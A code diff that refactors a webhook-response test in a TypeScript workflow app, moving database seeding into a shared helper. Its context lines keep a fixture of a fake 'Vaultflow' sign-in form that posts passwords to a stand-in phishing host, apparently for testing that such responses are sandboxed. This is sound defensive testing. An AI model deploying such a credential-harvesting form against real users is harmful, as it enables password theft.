@@ -11,8 +11,8 @@ import { startEmbeddedDriver, type TEmbeddedDriver } from "@/lib/server/runs/emb
 import { createExecutors } from "@/lib/server/runs/executors";
 import { getRun } from "@/lib/server/runs/get-run";
 import { listRunSecrets } from "@/lib/server/runs/run-secrets";
-import { createWebhookAddress } from "@/lib/server/webhooks/create-webhook-address";
 import { receiveWebhook } from "@/lib/server/webhooks/receive-webhook";
+import { seedWebhookFlow } from "../support/seed-flow";
 import { setupTestDatabase } from "../support/setup-test-database";
 
 setupTestDatabase();
@@ -26,14 +26,9 @@ afterAll(() => driver.stop());
 const SIGN_IN_FORM = '<form action="https://phishing.example/steal" method="post"><h1>Sign in to Vaultflow</h1><input name="password" type="password"></form>';
 const SANDBOX = "sandbox; default-src 'none'";
 
-let n = 0;
 const node = (id: string, type: string, config: Record<string, unknown>): TFlowNode => ({ id, type, name: id, config, ui: { x: 0, y: 0 } });
 
 async function hostileFlow(respond: { status: number; headers: { name: string; value: string }[]; body: string }) {
-  const db = getDb();
-  n += 1;
-  const user = await db.user.create({ data: { email: `responder-${n}@example.com` }, select: { id: true } });
-  const project = await db.project.create({ data: { name: `Answer ${n}`, memberships: { create: { userId: user.id, role: "OWNER" } } }, select: { id: true } });
   const document: TFlowDocument = {
     schemaVersion: 1,
     nodes: [
@@ -42,11 +37,7 @@ async function hostileFlow(respond: { status: number; headers: { name: string; v
     ],
     edges: [{ id: "e1", source: "trigger", target: "answer" }],
   };
-  const flow = await db.flow.create({ data: { projectId: project.id, name: "Answer", draft: document as never, isActive: true }, select: { id: true } });
-  const version = await db.flowVersion.create({ data: { flowId: flow.id, number: 1, document: document as never }, select: { id: true } });
-  await db.flow.update({ where: { id: flow.id }, data: { activeVersionId: version.id } });
-  const { url } = await createWebhookAddress(user.id, { flowId: flow.id }, meta);
-  return { userId: user.id, flowId: flow.id, token: url.split("/").pop()! };
+  return seedWebhookFlow(document, { label: "responder", meta });
 }
 
 function call(token: string) {
